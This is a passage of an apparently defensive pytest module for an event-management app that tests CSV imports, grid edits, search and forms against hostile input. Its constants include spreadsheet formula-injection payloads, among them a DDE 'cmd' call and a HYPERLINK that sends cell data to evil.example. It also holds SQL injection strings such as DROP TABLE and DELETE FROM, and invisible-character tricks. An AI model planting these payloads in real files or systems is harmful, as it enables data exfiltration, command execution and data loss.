"""Hostile and broken input: CSV imports, grid edits, search boxes and names that try to do harm.

Property tests (hypothesis) share one organisation in a database of this module's own: hypothesis
runs many examples per test function, and each example checks in the database that nothing was
written. The number of generated cases is printed at the end of the module.
"""

from __future__ import annotations

import codecs
import csv
import io
import unicodedata
import uuid
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import TypeVar

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import text

from eventflow import errors, events, participants, seating, statistics, tables
from eventflow import participant_import as pi
from eventflow.db import Database
from eventflow.formatting import fold
from tests.conftest import Organisation, ScratchServer, make_organisation

PROPERTY = settings(max_examples=60, deadline=None,
                    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                                           HealthCheck.data_too_large])
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_TEXT = (
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)",
    "'; DROP TABLE participants; --", "Robert'); DROP TABLE students;--", "%", "_", "%_%", "\\", "\\\\'",
    "\"quoted\" name", "O'Brien", "Ωμέγα Ünïcødé 😀", "a,b;c\td",
    "می\u200cخواهم", "👩\u200d💻 Dev",  # joiners inside a word: Persian, emoji sequences "NULL", "null", "NaN",
)
# Formulas behind characters a spreadsheet may trim on import (issue 9, item 5).
HIDDEN_FORMULAS = (" =1+1", "\ufeff=HYPERLINK(\"http://evil.example\")", "\u200b=cmd|' /C calc'!A0",
                   "\u00a0+1+1", " \t-2+3", "\u2060\u202e@SUM(A1:A9)", "\r\n=1")
ERROR_WORDS = {  # the kind of defect -> a word its message must contain
    "empty_name": "name is missing", "long_name": "longer than 300",
    "retired_track": "deactivated", "twin": "also appears on line", "bad_flag": "not yes or no", "extra_cells": "cells but the header has", "bad_email": "not an e-mail",
    "control": "control characters", "invisible_name": "invisible or control characters",
    "invisible_email": "e-mail contains invisible",
}
# Invisible and bidirectional characters (issue 9, item 11): refused wherever they are in a cell.
INVISIBLE = ("\u200b", "\u202e", "\u202d", "\u2066", "\u2069", "\ufeff", "\u00ad", "\u2060", "\u061c",
             "\U000e0041", "\ue000")
cases: Counter[str] = Counter()
T = TypeVar("T")


@dataclass
class Hostile:
    database: Database
    org: Organisation


@pytest.fixture(scope="module")
def hostile(pg_server: ScratchServer, request: pytest.FixtureRequest) -> Iterator[Hostile]:
    database = pg_server.create_database()
    yield Hostile(database, make_organisation(database, "Hostile"))
    pg_server.drop_database(database)
    reporter = request.config.pluginmanager.get_plugin("terminalreporter")
    capture = request.config.pluginmanager.get_plugin("capturemanager")
    if reporter is not None and capture is not None and cases:
        with capture.global_and_fixture_disabled():
            reporter.write_line("hostile input: generated cases run — " + ", ".join(
                f"{name} {count}" for name, count in sorted(cases.items())) + f" (total {sum(cases.values())})")


def _counts(h: Hostile) -> dict[str, int]:
    with h.database.owner_connection() as conn:
        return {table: conn.execute(text(f"SELECT count(*) FROM {table} WHERE event_id = :e"),  # noqa: S608
                                    {"e": h.org.event_id}).scalar_one()
                for table in ("participants", "participant_tracks", "table_assignments", "assignment_history",
                              "tracks", "seating_tables")}


def _seats(h: Hostile) -> set[tuple]:
    with h.database.owner_connection() as conn:
        return set(conn.execute(text("SELECT participant_id, table_number, seat_number, version "
                                     "FROM table_assignments WHERE event_id = :e"), {"e": h.org.event_id}).all())


def _event(h: Hostile) -> pi.EventPeople:
    with h.database.tenant_session(h.org.manager) as session:
        return pi.event_people(session, h.org.event_id)


def _plan(h: Hostile, data: bytes, limit_mb: int = 5) -> pi.ImportPlan:
    """The real import's preview of a file that can be read, with the columns it suggests."""
    table = pi.read_table(data, limit_mb)
    assert table.file_error is None, table.file_error
    return pi.plan_import(table, pi.suggest_mapping(table.header), _event(h))


def _encode(content: str, encoding: str) -> bytes:
    if encoding == "utf-16-be":  # with its byte-order mark, as Excel and Notepad write it
        return codecs.BOM_UTF16_BE + content.encode("utf-16-be")
    return content.encode(encoding)


def _csv(rows: list[list[str]], delimiter: str) -> str:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\n").writerows(rows)
    return out.getvalue()


def _normal(name: str) -> str:
    return " ".join(name.split())


# Text a person could type, without control characters (those are a defect of their own).
plain_text = st.text(st.characters(exclude_categories=("Cc", "Cs", "Cf", "Co", "Cn", "Zl", "Zp")), max_size=40)
good_names = st.one_of(st.sampled_from(HOSTILE_TEXT), plain_text).filter(
    lambda name: 0 < len(_normal(name)) <= 300)
formats = st.sampled_from([("utf-8", ","), ("utf-8-sig", ","), ("utf-8", ";"), ("utf-8-sig", ";"),
                           ("utf-8", "\t"), ("utf-16", "\t"), ("utf-16", ","), ("utf-16-be", ";")])
# Not defects: a new track is created by the import, and a known e-mail updates that person.
kinds = st.sampled_from(["good", "good", "good", "unknown_track", "existing", *ERROR_WORDS])


def _row(kind: str, name: str, index: int, company: str, existing_email: str) -> list[str]:
    """name, email, company, tracks, vip — with exactly the defect ``kind`` names."""
    email, tracks, vip, extra = f"p{index}.{uuid.uuid4().hex[:8]}@ok.example", "Data", "no", []
    match kind:
        case "empty_name":
            name = " \u2003 "
        case "long_name":
            name = "x" * 10_000
        case "unknown_track":
            tracks = "Astrology"
        case "retired_track":
            tracks = "data; Retired"
        case "twin":
            email = "twin@ok.example"
        case "existing":
            email = existing_email.upper()
        case "bad_flag":
            vip = "-1" if index % 3 == 0 else "1e9" if index % 3 == 1 else "99999999999999999999"
        case "extra_cells":
            extra = ["surplus"]
        case "bad_email":
            email = "not an address"
        case "control":
            company = "ACME\x00" if index % 2 else "Bell\x07Corp"
        case "invisible_name":
            hidden = INVISIBLE[index % len(INVISIBLE)]
            name = [f"Ana{hidden}Maria", f"{hidden}Eve", f"Mallory {hidden}", "\u200dJoiner at the edge"][index % 4]
        case "invisible_email":
            email = f"p{index}{INVISIBLE[index % len(INVISIBLE)]}@ok.example" if index % 2 else f"p{index}@o\u200dk.example"
    return [name, email, company, tracks, vip, *extra]


@PROPERTY
@given(data=st.data())
def test_every_bad_row_is_reported_with_its_line_and_nothing_is_written(hostile, data):
    before = _counts(hostile)
    encoding, delimiter = data.draw(formats, label="format")
    plan = data.draw(st.lists(st.tuples(kinds, good_names, st.sampled_from(["", "Acme", "Multi\nline Ltd"])),
                              min_size=1, max_size=8), label="rows")
    header = data.draw(st.sampled_from([["name", "email", "company", "tracks", "vip"],
                                        ["Full name", "E-Mail", "Organisation", "Track", "VIP"]]))
    rows = [_row(kind, name, i, company, "person0@hostile.example") for i, (kind, name, company) in enumerate(plan)]
    expected: dict[int, str] = {}
    line, seen, starts = 2, Counter(), []
    for (kind, _, _), row in zip(plan, rows, strict=True):
        starts.append(line)
        seen[kind] += 1
        if kind in ("twin", "existing") and seen[kind] > 1:  # the same e-mail again: a likely duplicate
            expected[line] = "also appears on line"
        elif kind in ERROR_WORDS and kind != "twin":
            expected[line] = ERROR_WORDS[kind]
        line += 1 + sum(cell.count("\n") for cell in row)
    file = _encode(_csv([header, *rows], delimiter), encoding)

    preview = _plan(hostile, file)
    cases["csv rows"] += 1
    assert set(preview.problems) == set(expected), (preview.problems, expected)
    for bad_line, word in expected.items():
        assert any(word in message for message in preview.problems[bad_line]), (bad_line, preview.problems[bad_line])
    # Every row is in the preview, on its line, with its name as typed (spaces tidied).
    assert [row.values["name"] for row in preview.rows] == [_normal(row[0]) for row in rows]
    assert [row.line for row in preview.rows] == starts
    assert ("Astrology" in preview.new_tracks) == ("unknown_track" in seen)
    person0 = [row for row in preview.rows if row.values.get("email") == "person0@hostile.example"]
    assert [row.status for row in person0[:1]] == (["changed"] if "existing" in seen else [])
    if expected:
        with hostile.database.tenant_session(hostile.org.manager) as session, pytest.raises(errors.InputError):
            pi.apply_import(session, hostile.org.event_id, preview)
    else:
        assert preview.ok
    assert _counts(hostile) == before


@PROPERTY
@given(names=st.lists(st.text(st.sampled_from("abcxyzéüöñçÅØ ,;-"), min_size=1, max_size=20)
                      .filter(lambda n: any(c in n for c in "éüöñçÅØ") and _normal(n)), min_size=1, max_size=5),
       delimiter=st.sampled_from([",", ";", "\t"]))
def test_latin1_files_are_refused_as_a_whole_and_nothing_is_written(hostile, names, delimiter):
    before = _counts(hostile)
    file = _csv([["name"], *[[n] for n in names]], delimiter).encode("latin-1")
    table = pi.read_table(file, 5)
    cases["latin-1 files"] += 1
    assert table.file_error == "The file is not UTF-8 text. Save it as “CSV UTF-8” and try again."
    assert table.rows == () and table.header == ()  # so the page offers no mapping and no Import button
    assert _counts(hostile) == before


@PROPERTY
@given(header=st.lists(st.sampled_from(["name", "email", "Company", "shoe size", "e-mail", "mail", "", "Name",
                                        "tracks", "salary"]), min_size=1, max_size=6))
def test_missing_unknown_or_repeated_columns(hostile, header):
    """No name column refuses the file; unknown columns are ignored; a field named by several columns
    is filled by the first, and each other one holding something is pointed out (never lost unsaid)."""
    before = _counts(hostile)
    cell = {"name": "Ada Lovelace", "email": "ada@x.test", "company": "Acme", "tracks": "Data"}
    row = [cell.get(pi._field_of(h), "42") for h in header]
    table = pi.read_table(_csv([header, row], ",").encode(), 5)
    mapping = pi.suggest_mapping(table.header)
    cases["column sets"] += 1
    fields = [pi._field_of(h) for h in header]
    if "name" not in fields:
        with pytest.raises(errors.InputError, match="Choose the column that holds the names"):
            pi.plan_import(table, mapping, _event(hostile))
        return
    preview = pi.plan_import(table, mapping, _event(hostile))
    assert preview.ok, preview.problems
    assert [row.values["name"] for row in preview.rows] == ["Ada Lovelace"]
    first = {f: fields.index(f) for f in fields if f in pi.FIELDS}
    assert mapping == {i: f if first.get(f) == i else pi.IGNORE for i, f in enumerate(fields)}
    repeated = [h for i, (h, f) in enumerate(zip(header, fields, strict=True)) if f in first and first[f] != i]
    assert [note.split("”")[0] for note in preview.notes] == [f"Column “{h}" for h in repeated]
    assert _counts(hostile) == before


def test_byte_order_marks_and_missing_cells(hostile):
    for file in (codecs.BOM_UTF8 + b"name,email\nAda,ada@x.test\n",
                 "name\temail\r\nAda\tada@x.test\r\n".encode("utf-16"),
                 b"name;email;company\nAda\n"):  # a short row: the missing cells are blank
        preview = _plan(hostile, file)
        assert preview.ok, (file, preview.problems)
        assert [row.values["name"] for row in preview.rows] == ["Ada"]
    assert pi.read_table(b"\xef\xbb\xbf", 5).file_error == "The file is empty."
    assert pi.read_table(b"name\n\n ,\n", 5).file_error == "The file has a header but no participants."


def test_existing_email_in_another_case_and_duplicate_in_file(hostile):
    preview = _plan(hostile, b"name,email\nHostile person 1,PERSON1@HOSTILE.EXAMPLE\nB,new@x.test\nC,New@X.test\n")
    assert preview.problems == {4: ["likely duplicate: New@X.test also appears on line 3"]}
    existing = preview.rows[0]
    assert (existing.status, existing.values["email"]) == ("unchanged", "person1@hostile.example")
    assert existing.participant_id == str(hostile.org.participant_ids[1])


# ---------------------------------------------------------------------------------- size limits

def test_an_upload_over_the_limit_is_refused_before_it_is_parsed(hostile):
    limit_mb = 1
    too_big = b"\xff\xfe\x00garbage that is not even text" + b"\x00" * (1024 * 1024)
    with pytest.raises(errors.InputError, match="limit is 1 MB"):
        pi.read_table(too_big, limit_mb)
    with pytest.raises(errors.InputError, match="limit is 1 MB"):
        pi.read_upload_once({}, too_big, limit_mb)
    # Different names: the same name without an e-mail twice is a likely duplicate.
    at_the_limit = b"name\n" + b"".join(b"P%06d" % i + b"B" * 192 + b"\n" for i in range(5242))
    at_the_limit += b"C" * (1024 * 1024 - len(at_the_limit) - 1) + b"\n"  # exactly 1 MB: still read
    assert len(at_the_limit) == 1024 * 1024
    preview = _plan(hostile, at_the_limit, limit_mb)
    assert preview.ok and len(preview.rows) == 5243


FIVE_MB = 5 * 1024 * 1024
# A bound on waiting for a parse that never ends (the quadratic header check took hours on 5 MB),
# not a timing assertion: a linear parse takes well under a second here.
HANG_LIMIT_SECONDS = 120


def _within_bound(work: Callable[[], T], what: str) -> T:
    import threading

    result: list[T] = []
    worker = threading.Thread(target=lambda: result.append(work()), daemon=True)
    worker.start()
    worker.join(HANG_LIMIT_SECONDS)
    assert result, f"{what} did not finish within {HANG_LIMIT_SECONDS} s"
    return result[0]


def _read_within_bound(data: bytes) -> pi.RawTable:
    return _within_bound(lambda: pi.read_table(data, 5), f"reading {len(data):,} bytes")


@pytest.mark.parametrize("column", ["email", "shoe size"])
def test_a_header_of_megabytes_of_repeated_columns_is_refused_in_linear_time(hostile, column):
    count = FIVE_MB // (len(column) + 1) - 10
    header = ("name," + ",".join([column] * count)).encode()
    assert len(header) <= FIVE_MB
    table = _read_within_bound(header + b"\nAda\n")
    assert table.file_error == (f"The file has {count + 1:,} columns; a participant list has at most "
                                f"{pi.MAX_COLUMNS}. Is this the right file?")
    assert table.rows == ()
    # At the column limit the mapping is offered, every repeat after the first ignored.
    table = _read_within_bound(("name," + ",".join([column] * (pi.MAX_COLUMNS - 1)) + "\nAda\n").encode())
    assert len([f for f in pi.suggest_mapping(table.header).values() if f]) == (2 if column == "email" else 1)


def test_a_file_of_millions_of_tiny_rows_is_refused_with_the_row_limit(hostile):
    tiny_rows = b"name\n" + b"a\n" * ((FIVE_MB - 5) // 2)
    table = _read_within_bound(tiny_rows)
    assert table.file_error == ("The file has more than 20,000 participants; an import takes up to 20,000 "
                                "participants. Split it into smaller files.")
    assert table.rows == ()  # so the page offers no mapping and no Import button
    blank_lines = b"name\n" + b"\n" * (FIVE_MB - 5)
    assert "more than 100,000 lines" in _read_within_bound(blank_lines).file_error
    at_the_cap = b"name\n" + b"".join(b"P%d\n" % i for i in range(pi.MAX_IMPORT_ROWS))
    table = _read_within_bound(at_the_cap)
    preview = _within_bound(lambda: pi.plan_import(table, {0: "name"}, _event(hostile)), "planning 20,000 rows")
    assert preview.ok and len(preview.rows) == pi.MAX_IMPORT_ROWS


def test_a_chain_of_twenty_thousand_plus_ones_is_one_group(hostile):
    # Each guest comes with the next: one group of everyone. Walking the chain from every guest was
    # quadratic (73 s under load, within the hang bound: the speed is measured, not asserted here).
    rows = "".join(f"P{i},p{i}@chain.example,p{i + 1}@chain.example\n" for i in range(pi.MAX_IMPORT_ROWS - 1))
    table = pi.read_table(f"name,email,plus one of\n{rows}Last,p{pi.MAX_IMPORT_ROWS - 1}@chain.example,\n".encode(), 5)
    preview = _within_bound(lambda: pi.plan_import(table, pi.suggest_mapping(table.header), _event(hostile)),
                            "planning a chain of plus-ones")
    assert preview.ok and [len(group) for group in preview.groups] == [pi.MAX_IMPORT_ROWS]


def test_an_upload_is_read_once_across_reruns(hostile, monkeypatch):
    read: list[bytes] = []
    planned: list[bytes] = []
    real_read, real_plan = pi.read_table, pi.plan_import

    def counting_read(data, limit_mb):
        read.append(data)
        return real_read(data, limit_mb)

    def counting_plan(table, mapping, event):
        planned.append(table.rows[0][1][0].encode())
        return real_plan(table, mapping, event)

    monkeypatch.setattr(pi, "read_table", counting_read)
    monkeypatch.setattr(pi, "plan_import", counting_plan)
    store: dict = {}
    digest, first = pi.read_upload_once(store, b"name\nAda\n", 5)
    plan = pi.plan_once(store, first, {0: "name"}, _event(hostile))
    for _ in range(3):  # reruns of the page: the same file, mapping and event
        assert pi.read_upload_once(store, b"name\nAda\n", 5) == (digest, first)
        assert pi.read_upload_once(store, b"name\nAda\n", 5)[1] is first
        assert pi.plan_once(store, first, {0: "name"}, _event(hostile)) is plan
    assert pi.plan_once(store, first, {0: "name", 1: pi.IGNORE}, _event(hostile)) is not plan  # another mapping
    other_digest, other = pi.read_upload_once(store, b"name\nGrace\n", 5)
    assert other_digest != digest and [cells for _, cells in other.rows] == [("Grace",)]
    assert [row.values["name"] for row in pi.plan_once(store, other, {0: "name"}, _event(hostile)).rows] == ["Grace"]
    assert read == [b"name\nAda\n", b"name\nGrace\n"] and planned == [b"Ada", b"Ada", b"Grace"]
    with pytest.raises(errors.InputError, match="limit is 5 MB"):
        pi.read_upload_once(store, b"x" * (FIVE_MB + 1), 5)
    assert len(read) == 2  # refused before it was read


def test_streamlit_refuses_uploads_over_the_apps_limit_and_offers_no_raw_table_export():
    import tomllib
    from pathlib import Path

    from eventflow.config import Settings

    config = tomllib.loads((Path(__file__).resolve().parent.parent / ".streamlit" / "config.toml").read_text())
    assert config["server"]["maxUploadSize"] == Settings.from_environment().upload_limit_mb == 5
    assert config["client"]["disableDataExport"] is True


def test_a_giant_cell_is_a_clear_error(hostile):
    table = pi.read_table(b"name,company\nAda," + b"x" * 200_000 + b"\n", 1)
    assert table.file_error == "Line 2 has a cell of more than 131,072 characters: this is not a participant list."
    # The line where the row starts, after a quoted cell over two lines; and in the header.
    table = pi.read_table(b"name,note\nAda,\"two\nlines\"\nBo," + b"x" * 200_000 + b"\n", 1)
    assert table.file_error.startswith("Line 4 has a cell of more than 131,072 characters")
    assert pi.read_table(b"name," + b"x" * 200_000 + b"\nAda\n", 1).file_error.startswith("Line 1 has a cell")


# ------------------------------------------------------------------- stored as text, exported inert

def _exported_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def _assert_inert(data: bytes) -> None:
    dangerous = [cell for cell in _exported_cells(data)
                 if cell.startswith(FORMULA_START) or _first_visible(cell).startswith(FORMULA_START)]
    assert not dangerous, dangerous


def _first_visible(cell: str) -> str:
    return "".join(ch for ch in cell if not (ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf", "Zs")))


@PROPERTY
@given(names=st.lists(good_names, min_size=1, max_size=4, unique_by=_normal),
       company=st.sampled_from(HOSTILE_TEXT))
def test_hostile_names_are_stored_verbatim_and_every_export_is_inert(hostile, names, company):
    tag = uuid.uuid4().hex[:8]
    rows = [[name, f"{tag}.{i}@ok.example", company] for i, name in enumerate(names)]
    preview = _plan(hostile, _csv([["name", "email", "company"], *rows], ",").encode())
    assert preview.ok, preview.problems
    before = _counts(hostile)
    with hostile.database.tenant_session(hostile.org.manager) as session:
        assert pi.apply_import(session, hostile.org.event_id, preview).added == len(names)
    after = _counts(hostile)
    assert after["participants"] == before["participants"] + len(names)
    with hostile.database.tenant_session(hostile.org.viewer) as session:
        stored = participants.list_participants(session, hostile.org.event_id)
        exported = participants.export_participants_csv(session, hostile.org.event_id)
    mine = stored[stored["email"].str.startswith(tag)].sort_values("email")
    assert list(mine["name"]) == [_normal(n) for n in names]
    assert set(mine["company"]) == {_normal(company)}
    _assert_inert(exported)
    cases["hostile names imported"] += 1


@PROPERTY
@given(values=st.lists(st.one_of(st.sampled_from(HOSTILE_TEXT + HIDDEN_FORMULAS), plain_text,
                                 st.integers(0, 10**6)),
                       min_size=1, max_size=6))
def test_to_safe_csv_neutralises_any_text_cell(values):
    frame = pd.DataFrame({"value": pd.Series(values, dtype=object),
                          "as_string": pd.Series([str(v) for v in values], dtype="string")})
    _assert_inert(participants.to_safe_csv(frame))
    cases["csv cells"] += 1


def test_place_cards_and_track_distribution_exports_are_inert(hostile):
    org = hostile.org
    with hostile.database.tenant_session(org.owner) as session:
        track = events.add_track(session, org.event_id, "=HYPERLINK(\"http://evil\")")
        added = tables.add_tables(session, org.event_id, first_number=40, count=1, capacity=4, is_vip=False,
                                  label="@SUM(1+1)", accessible=False)
        person = session.execute(text("INSERT INTO participants (event_id, full_name, company) "
                                      "VALUES (:e, '-2+3 Mallory', '+cmd') RETURNING id"),
                                 {"e": org.event_id}).scalar_one()
        session.execute(text("INSERT INTO participant_tracks (event_id, participant_id, track_id) "
                             "VALUES (:e, :p, :t)"), {"e": org.event_id, "p": person, "t": track})
        session.execute(text("INSERT INTO table_assignments (event_id, participant_id, table_number, assigned_by) "
                             "VALUES (:e, :p, :t, 'manager')"), {"e": org.event_id, "p": person, "t": added[0]})
        cards = tables.place_cards(session, org.event_id)
        distribution = statistics.track_distribution(session, org.event_id)
        by_track = statistics.seating_by_track(session, org.event_id)
    assert "-2+3 Mallory" in set(cards["name"]) and "=HYPERLINK(\"http://evil\")" in set(distribution["track"])
    for frame in (cards, distribution, by_track):
        exported = participants.to_safe_csv(frame)
        _assert_inert(exported)
    assert "'-2+3 Mallory" in _exported_cells(participants.to_safe_csv(cards))


# ------------------------------------------------------------------------ grid edits out of range

impossible = st.one_of(
    st.sampled_from(["abc", "1.5", "1e9", "0", "-1", "NaN", "inf", "-inf", "½", "1,5", "3 4", "0x10", "🙂"]),
    # No table or seat number below a million exists here (other tests add tables).
    st.integers(max_value=0), st.integers(min_value=10**6, max_value=10**30),
    # (A float NaN is how the editor reports a cleared cell, which unseats: not impossible.)
    st.floats(allow_nan=False, allow_infinity=True).filter(lambda f: not (f.is_integer() and 1 <= f < 10**6)),
    st.booleans(),
)


@PROPERTY
@given(data=st.data())
def test_impossible_grid_values_are_refused_and_nothing_is_written(hostile, data):
    org = hostile.org
    with hostile.database.tenant_session(org.manager) as session:
        grid = seating.load_seating_grid(session, org.event_id)
    ours = grid.frame.index[grid.frame["participant_id"].isin([str(p) for p in org.participant_ids])]
    frame = grid.frame.loc[ours].reset_index(drop=True)
    bad_position = data.draw(st.integers(0, len(frame) - 1), label="bad row")
    column = data.draw(st.sampled_from(["table_number", "seat_number", "seat beyond capacity"]), label="column")
    if column == "seat beyond capacity":  # table 3 has 2 seats
        edit = {"table_number": 3, "seat_number": data.draw(st.integers(3, 10**9), label="seat")}
    elif column == "seat_number":
        edit = {"table_number": 2, "seat_number": data.draw(impossible, label="value")}
    else:
        edit = {"table_number": data.draw(impossible, label="value")}
    edits = {position: {"table_number": data.draw(st.sampled_from([1, 2, None]), label=f"other {position}")}
             for position in data.draw(st.sets(st.integers(0, len(frame) - 1), max_size=3), label="others")
             if position != bad_position}
    edits[bad_position] = edit
    seats, before = _seats(hostile), _counts(hostile)

    change_set = seating.changes_from_editor(frame, {"edited_rows": edits})
    problems = seating.validate_changes(change_set, grid)
    bad_person = str(frame.loc[bad_position, "participant_id"])
    assert problems.get(bad_person), (edit, problems)
    with hostile.database.tenant_session(org.manager) as session:
        result = seating.save_changes(session, org.event_id, change_set, grid)
    cases["grid edits"] += 1
    assert not result.ok and result.saved == 0 and result.problems.get(bad_person)
    assert (_seats(hostile), _counts(hostile)) == (seats, before)


# ------------------------------------------------------------------------ SQL in search and names

@PROPERTY
@given(needle=st.one_of(st.sampled_from(HOSTILE_TEXT), plain_text))
def test_search_matches_literally(hostile, needle):
    with hostile.database.tenant_session(hostile.org.viewer) as session:
        grid = seating.load_seating_grid(session, hostile.org.event_id)
    shown = seating.filter_grid(grid.frame, search=needle)
    wanted = fold(needle.strip())  # accents and case ignored, the same on both sides
    expected = [pid for pid, *texts in zip(grid.frame["participant_id"], grid.frame["full_name"],
                                           grid.frame["company"], grid.frame["email"], strict=True)
                if wanted in fold("\n".join(t if isinstance(t, str) else "" for t in texts))]
    assert list(shown["participant_id"]) == expected
    cases["search needles"] += 1


def test_sql_in_names_and_track_names_is_only_text(hostile):
    org = hostile.org
    before = _counts(hostile)
    tag = uuid.uuid4().hex[:8]
    payload, company = f"'; DROP TABLE participants; -- {tag}", f"%_\\{tag}"
    with hostile.database.tenant_session(org.manager) as session:
        events.add_track(session, org.event_id, f"x'); DELETE FROM tracks; -- {tag}")
        table = pi.read_table(_csv([["name", "email", "company"], [payload, f"{tag}@x.test", company]], ";").encode(), 5)
        preview = pi.plan_import(table, pi.suggest_mapping(table.header), pi.event_people(session, org.event_id))
        assert pi.apply_import(session, org.event_id, preview).added == 1
        grid = seating.load_seating_grid(session, org.event_id)
        track_names = [t.name for t in events.list_tracks(session, org.event_id)]
    assert f"x'); DELETE FROM tracks; -- {tag}" in track_names
    found = seating.filter_grid(grid.frame, search=f"'; drop table participants; -- {tag}")
    assert list(found["full_name"]) == [payload] and list(found["company"]) == [company]
    # '%' and '_' are characters, not wildcards: only rows that contain them literally.
    assert list(seating.filter_grid(grid.frame, search=f"%_\\{tag}")["full_name"]) == [payload]
    literal = sum("%_" in "\n".join(t if isinstance(t, str) else "" for t in texts)
                  for texts in zip(grid.frame["full_name"], grid.frame["company"], grid.frame["email"], strict=True))
    assert len(seating.filter_grid(grid.frame, search="%_")) == literal >= 1
    with hostile.database.owner_connection() as conn:
        assert conn.execute(text("SELECT to_regclass('participants') IS NOT NULL AND "
                                 "to_regclass('tracks') IS NOT NULL")).scalar_one()
    after = _counts(hostile)
    assert after == {**before, "participants": before["participants"] + 1, "tracks": before["tracks"] + 1}


# ------------------------------------------- new forms: events, organisations, invitations (issue 10)

def _event_count(h: Hostile) -> int:
    with h.database.owner_connection() as conn:
        return conn.execute(text("SELECT count(*) FROM events WHERE organization_id = :o"), {"o": h.org.id}).scalar_one()


HOSTILE_OR_ANY = st.one_of(st.sampled_from(HOSTILE_TEXT), st.text(max_size=260))


@PROPERTY
@given(name=HOSTILE_OR_ANY, venue=HOSTILE_OR_ANY, tracks=st.lists(HOSTILE_OR_ANY, max_size=4))
def test_event_form_stores_text_verbatim_or_refuses_and_writes_nothing(hostile, name, venue, tracks):
    from eventflow import events as event_module

    before = _event_count(hostile)
    try:
        with hostile.database.tenant_session(hostile.org.manager) as session:
            created = event_module.create_event(session, hostile.org.id, name, None, None, venue, False, tracks)
            stored = event_module.event_settings(session, created)
            stored_tracks = sorted(t.name for t in event_module.list_tracks(session, created))
    except event_module.EventInputError as error:
        assert str(error) and "Traceback" not in str(error)
        assert _event_count(hostile) == before
        cases["event form refused"] += 1
        return
    assert stored.name == " ".join(name.split())
    assert stored.venue == (venue.strip() or None)
    assert stored_tracks == sorted(" ".join(t.split()) for line in "\n".join(tracks).splitlines()
                                   for t in line.split(",") if t.strip())
    assert _event_count(hostile) == before + 1
    with hostile.database.tenant_session(hostile.org.owner) as session:
        event_module.delete_event(session, created, stored.name)
    cases["event form stored"] += 1


@PROPERTY
@given(address=st.one_of(st.sampled_from(HOSTILE_TEXT), st.emails(), st.text(max_size=80)),
       role=st.sampled_from(["owner", "manager", "viewer", "admin", "", "OWNER"]))
def test_invitation_form_accepts_only_plain_addresses_and_known_roles(hostile, address, role):
    from eventflow import members
    from eventflow.emails import canonical_email

    with hostile.database.tenant_session(hostile.org.owner) as session:
        before = len(members.list_invitations(session, hostile.org.id))
    try:
        with hostile.database.tenant_session(hostile.org.owner) as session:
            members.invite(session, hostile.org.id, address, role)
    except errors.InputError as error:
        assert str(error)
        with hostile.database.tenant_session(hostile.org.owner) as session:
            assert len(members.list_invitations(session, hostile.org.id)) == before
        cases["invitation refused"] += 1
        return
    with hostile.database.tenant_session(hostile.org.owner) as session:
        invited = {i.email: i for i in members.list_invitations(session, hostile.org.id)}
        assert invited[canonical_email(address)].role == role
        members.withdraw_invitation(session, hostile.org.id, invited[canonical_email(address)].id)
    cases["invitation stored"] += 1


@PROPERTY
@given(name=HOSTILE_OR_ANY)
def test_organisation_form_stores_text_verbatim_or_refuses(hostile, name):
    from eventflow import organisations

    with hostile.database.owner_connection() as conn:
        organiser = conn.execute(text("INSERT INTO organisers (email, display_name) VALUES (:e, 'Org maker') "
                                      "RETURNING id"), {"e": f"maker.{uuid.uuid4().hex}@example.test"}).scalar_one()
    try:
        with hostile.database.tenant_session(organiser) as session:
            created = organisations.create_organization(session, name)
    except errors.InputError as error:
        assert str(error)
        with hostile.database.owner_connection() as conn:
            assert conn.execute(text("SELECT count(*) FROM memberships WHERE organiser_id = :o"),
                                {"o": organiser}).scalar_one() == 0
        cases["organisation refused"] += 1
        return
    with hostile.database.owner_connection() as conn:
        assert conn.execute(text("SELECT name FROM organizations WHERE id = :i"), {"i": created}).scalar_one() == \
            " ".join(name.split())
    cases["organisation stored"] += 1


# ------------------------------------------- invisible characters in every form that takes a name

@pytest.mark.parametrize("hidden", INVISIBLE)
def test_invisible_characters_are_refused_by_every_form_and_nothing_is_written(hostile, hidden):
    from eventflow import autoseat

    org = hostile.org
    before = _counts(hostile)
    with hostile.database.tenant_session(org.owner) as session:
        with pytest.raises(events.EventInputError, match="invisible or control characters"):
            events.add_track(session, org.event_id, f"Da{hidden}ta")
        with pytest.raises(events.EventInputError, match="invisible or control characters"):
            events.rename_track(session, org.event_id, org.track_ids[0], f"Cloud{hidden}")
        with pytest.raises(events.EventInputError, match="The event name contains invisible"):
            events.update_event_details(session, org.event_id, f"Summit {hidden}2026", None, None, None)
        with pytest.raises(events.EventInputError, match="The venue contains invisible"):
            events.update_event_details(session, org.event_id, "Summit", None, None, f"Hall{hidden} A")
        with pytest.raises(tables.TableInputError, match="invisible or control characters"):
            tables.add_tables(session, org.event_id, first_number=70, count=1, capacity=4, label=f"VIP{hidden}")
        with pytest.raises(autoseat.AutoSeatError, match="invisible or control characters"):
            autoseat.add_rule(session, org.event_id, "apart", org.participant_ids[:2], f"note {hidden}x")
    assert _counts(hostile) == before
    snapshot = pd.DataFrame([{"table_number": 1, "label": None, "capacity": 4, "is_vip_table": False,
                              "accessible": False, "seated": 0, "version": 1}])
    _, problems = tables.table_changes_from_editor(snapshot, {"edited_rows": {0: {"label": f"A{hidden}B"}}})
    assert "invisible or control characters" in problems[1][0]


def test_joiners_inside_a_word_are_kept_and_reported_at_the_edges():
    from eventflow import text_rules

    assert text_rules.problem("می\u200cخواهم", "name") is None        # Persian needs the non-joiner
    assert text_rules.problem("👩\u200d💻", "name") is None           # an emoji sequence
    assert "U+200D zero width joiner" in text_rules.problem("Eve\u200d", "name")
    assert "U+200C" in text_rules.problem("a\u200cb@example.org", "e-mail", email=True)  # never in an e-mail
    assert "U+202E right-to-left override" in text_rules.problem("\u202eevil", "name")


# ------------------------------------------- the participant form and the re-import (issue 10, section 4)

@PROPERTY
@given(name=HOSTILE_OR_ANY, company=HOSTILE_OR_ANY, dietary=HOSTILE_OR_ANY, note=HOSTILE_OR_ANY,
